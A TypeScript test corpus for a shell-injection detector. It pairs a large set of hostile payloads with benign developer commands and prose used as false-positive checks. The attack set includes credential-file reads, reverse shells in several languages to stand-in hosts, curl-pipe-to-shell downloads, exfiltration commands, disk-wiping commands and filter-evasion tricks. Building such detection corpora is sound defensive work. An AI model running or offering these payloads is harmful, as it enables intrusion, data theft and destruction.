import type { CategoryCorpus } from './corpus.ts'
import { carried, cross, dev, some } from './corpus.ts'

const separators = ['; ', ' | ', ' && ', ' || ', ';', '|']
const hosts = ['10.9.8.7', 'h.example']

export const shellCorpus: CategoryCorpus = {
  category: 'shell_injection',
  attacks: [
    dev(
      'reads a credential file',
      carried(
        some(
          24,
          cross(
            ['report.pdf', 'x', '127.0.0.1', 'img.png"'],
            separators,
            [
              'cat /etc/passwd',
              'cat /etc/shadow',
              'head -5 /etc/passwd',
              'base64 ~/.ssh/id_rsa',
              'tail /root/.bash_history',
            ],
            ['', ' #', ' | base64'],
          ),
        ),
      ),
    ),
    dev(
      'value goes on as a command',
      carried(
        some(
          20,
          cross(
            ['8.8.8.8', 'photo.jpg', 'data.csv', 'example.com'],
            separators,
            ['id', 'whoami', 'uname -a', 'sleep 10', 'ls /', 'ifconfig'],
            ['', ' #'],
          ),
        ),
      ),
    ),
    dev(
      'reverse shell',
      some(16, [
        ...cross(
          ['bash -i >& /dev/tcp/', "sh -c 'bash -i >& /dev/tcp/", 'exec 5<>/dev/tcp/'],
          hosts,
          ['/4444'],
          [' 0>&1', " 0>&1'"],
        ),
        ...cross(['nc -e /bin/sh ', 'ncat --exec /bin/bash ', 'nc.traditional -e /bin/bash '], hosts, [' 9001']),
        ...cross(['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc '], hosts, [' 1234 >/tmp/f']),
      ]),
    ),
    dev(
      'downloads and runs',
      carried(
        some(
          16,
          cross(
            ['a.txt; ', '$(', '`'],
            ['curl http://', 'wget -qO- https://'],
            hosts,
            ['/x.sh'],
            [' | sh', ' | bash', '|sudo bash'],
          ),
        ),
      ),
    ),
    dev(
      'destroys',
      carried([
        'x; rm -rf /',
        '"; rm -rf / --no-preserve-root #',
        'a && rm -rf ~/',
        '; dd if=/dev/zero of=/dev/sda',
        '| mkfs.ext4 /dev/sda1',
        ':(){ :|:& };:',
        '$(rm -rf /*)',
        'foo; rm -fr /home',
      ]),
    ),
    dev('sends data out', [
      '$(curl http://h.example/?x=$(cat /etc/passwd | base64))',
      'x; curl -d @/etc/passwd http://h.example',
      'nslookup `whoami`.h.example',
      'y | wget --post-file=/etc/shadow http://h.example',
      'env | curl -X POST --data-binary @- http://h.example',
      'curl https://h.example/$(id | base64)',
    ]),
    dev(
      'blanks avoided',
      carried(
        some(
          16,
          cross(
            [';', '|', '&&'],
            ['cat${IFS}', '{cat,', 'cat$IFS$9', 'tac${IFS}'],
            ['/etc/passwd', '/etc/hosts'],
            ['', '}'],
          ),
        ),
      ),
    ),
    dev('broken words and globs', [
      ";c'a't /etc/passwd",
      "|wh''oami",
      '; /???/c?t /etc/passwd',
      '$(printf "\\143\\141\\164 /etc/passwd")|sh',
      '; cat /e*c/p*wd',
      ';ca""t /etc/pass""wd',
      '; w\\ho\\am\\i',
      "; $'\\x63\\x61\\x74' /etc/passwd",
      'x;echo aWQ=|base64 -d|bash',
      '; bash<<<$(base64 -d<<<aWQK)',
      '|rev<<<imaohw|sh',
      '() { :;}; /bin/bash -c id',
    ]),
    dev(
      'other languages',
      some(20, [
        ...cross(['python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("'], hosts, [
          '",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
        ]),
        ...cross(['php -r \'$s=fsockopen("'], hosts, ['",99);exec("/bin/sh -i <&3 >&3 2>&3");\'']),
        ...cross(['perl -e \'use Socket;$i="'], hosts, [
          '";socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,">&S");exec("/bin/sh -i");\'',
        ]),
        ...cross(['ruby -rsocket -e \'exit if fork;c=TCPSocket.new("'], hosts, ['",4);exec("/bin/sh")\'']),
        ...cross(['socat tcp-connect:'], hosts, [':5 exec:/bin/sh,pty']),
      ]),
    ),
    dev('windows', [
      '& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
      'powershell -c "IEX(New-Object Net.WebClient).DownloadString(\'http://h.example/a\')"',
      'x & certutil.exe -urlcache -split -f http://h.example/a.exe a.exe',
      '| mshta http://h.example/a.hta',
      'a.txt & del /f /s /q c:\\*',
      'powershell iex (iwr http://h.example/x.ps1)',
      'regsvr32 /s /n /u /i:http://h.example/a.sct scrobj.dll',
      '&& vssadmin delete shadows /all',
      'bitsadmin /transfer j http://h.example/a a.exe',
      'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"',
    ]),
    dev(
      'parameters',
      some(
        16,
        cross(
          ['/ping?host=127.0.0.1', 'GET /dl?f=a.zip', '{"ip": "10.0.0.1', 'file=report.txt'],
          ['; ', '%3B', '&& ', '|'],
          ['id', 'sleep 7', 'cat /etc/passwd', 'wget http://h.example/a'],
          ['', ' #', '"}'],
        ),
      ),
    ),
  ],
  benign: [
    dev(
      'developer commands',
      some(
        30,
        cross(
          ['Run ', 'First ', '```\n', '$ '],
          [
            'npm install && npm test',
            'cd app; ls -la',
            'git pull && make -j4',
            'docker ps | grep web',
            'python -m venv .venv && source .venv/bin/activate',
            'rm -rf node_modules && npm ci',
            'tail -f /var/log/syslog | grep error',
          ],
          ['', '\n```', ' and wait.'],
        ),
      ),
    ),
    dev('shell lessons', [
      '`cat /etc/hosts` shows the hosts file.',
      'USER=$(whoami); echo $USER',
      'for f in *.txt; do echo "$f"; done',
      'ps aux | sort -rk 3 | head',
      'The id command prints your groups; uname -a prints the kernel.',
      'curl -s https://api.example/items | jq .',
      'find . -name "*.log" -mtime +7 | xargs rm',
      'echo "$(date): done" >> build.log',
      'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519',
      'chmod +x run.sh && ./run.sh',
      'grep -r TODO src | wc -l',
      'test -f .env || cp .env.example .env',
      'export PATH=$PATH:/usr/local/bin; hash -r',
      'nc -zv localhost 5432',
      'dd if=debian.iso of=usb.img bs=4M',
    ]),
    dev('prose and code with marks', [
      'Bring bread; cats like it | dogs too.',
      'a = b | c; d && e',
      'if (x && id) return',
      'Tom & Jerry; id est, friends',
      'WHERE a; id = 3',
      'ping me at 5; who am I to say no?',
      'fruit: apple|pear|plum',
      'C:\\dir; D:\\dir',
      'sleep 8 hours; drink water',
      'R&D; Q&A; env & policy',
      'x || y && z',
      'color=red;size=4',
      'Cookie: id=3; theme=dark',
      'image.png; photo.jpg; data.csv',
    ]),
    dev(
      'install guides',
      some(
        16,
        cross(
          ['To install, run ', 'On Debian: ', 'In CI we do '],
          [
            'sudo apt-get update && sudo apt-get install -y git curl',
            'brew install wget; brew upgrade',
            'pip install -r requirements.txt && pytest -q',
            'curl -LO https://dl.example/tool.tar.gz && tar xzf tool.tar.gz',
            'kubectl get pods | grep api',
          ],
          ['.', ' first.', '\nand check the version.'],
        ),
      ),
    ),
    dev('configs', [
      'CMD ["sh", "-c", "npm run migrate && npm start"]',
      'ExecStart=/usr/bin/node /srv/app.js',
      '*/5 * * * * /usr/local/bin/backup.sh > /dev/null 2>&1',
      'script: "tsc -p . && node dist/main.js"',
      'RUN apt-get update && rm -rf /var/lib/apt/lists/*',
      'before_script: cd web; npm ci',
      'alias ll="ls -la"',
      'HEALTHCHECK CMD curl -f http://localhost:3000/health || exit 1',
      'run: echo "sha=$(git rev-parse HEAD)" >> $GITHUB_OUTPUT',
      'entrypoint: ["/bin/sh"]',
      'ssh deploy@h.example "cd /srv && ./restart.sh"',
      'tar czf backup.tgz /etc/nginx; scp backup.tgz h.example:',
    ]),
    dev('questions', [
      'What does `2>&1 | tee log` do?',
      'How do I run two commands, one after the other, only if the first worked?',
      'Why does rm -rf dist fail with permission denied?',
      'Is $(...) better than backticks in bash?',
      'How do I find which process listens on port 3000?',
      'What is the difference between ; and && and ||?',
      'How can I list hidden files with ls?',
      'My script says "bash: id: command not found"; what now?',
      'Write a bash script that pings 8.8.8.8 each minute and logs failures.',
      'How to use curl to post JSON from a file with -d @body.json?',
    ]),
  ],
}
